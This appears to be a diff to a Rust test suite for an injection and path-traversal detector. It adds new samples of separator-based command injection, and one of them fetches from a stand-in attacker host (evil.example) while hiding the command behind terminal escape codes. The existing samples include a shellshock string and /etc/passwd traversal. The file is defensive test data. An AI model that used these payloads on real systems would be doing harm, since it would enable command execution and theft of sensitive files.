@@ -29,6 +29,11 @@ fn each_class_with_its_rule() {
         ("$(whoami)", "cmdi.substitution"),
         ("() { :;}; /bin/bash -c id", "cmdi.shellshock"),
         ("uname -a", "cmdi.command-line"),
+        (
+            "%0a%1b[2Acurl http://evil.example/x",
+            "cmdi.separator-command",
+        ),
+        ("\\necho x\\n\\033[2Asleep 5\\n", "cmdi.separator-command"),
         ("../../../../etc/passwd", "traversal.dot-dot"),
         ("%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "traversal.dot-dot"),
         ("c:\\windows\\win.ini", "traversal.sensitive-file"),
@@ -77,6 +82,8 @@ fn ordinary_values_are_not_attacks() {
         "SGVsbG8gd29ybGQ=",
         "2024-05-01T12:30:00Z",
         "Price gt 5 and Name eq 'Milk'",
+        "run `make test` first",
+        "first line\\nsecond line\\n\\033[1mbold\\033[0m",
     ] {
         let v2 = v.replace(' ', "%20");
         assert!(!scan_value(v).is_attack(), "{v:?}: {:?}", rules(v));
